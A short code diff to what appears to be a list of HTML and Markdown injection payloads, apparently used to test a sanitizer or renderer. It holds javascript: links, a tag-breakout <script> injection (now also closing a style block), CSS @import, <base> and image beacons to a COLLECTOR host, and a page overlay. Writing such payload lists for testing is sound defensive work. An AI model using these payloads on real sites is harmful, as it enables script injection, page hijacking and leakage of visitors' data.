@@ -18,7 +18,7 @@ OWN = [
     f'<a href="javascript:{_RUN}">click</a>',
     f"[click](javascript:{_RUN})",
     f"![x]({COLLECTOR}/md.png)",
-    f"</p></article></section><script>{_RUN}</script>",
+    f"</p></article></section></style><script>{_RUN}</script>",
     f"<style>@import '{COLLECTOR}/own.css';</style>",
     "<div style='position:fixed;inset:0;z-index:9999;background:red'>over</div>",
     f'<base href="{COLLECTOR}/"><link rel="stylesheet" href="{COLLECTOR}/own.css">',
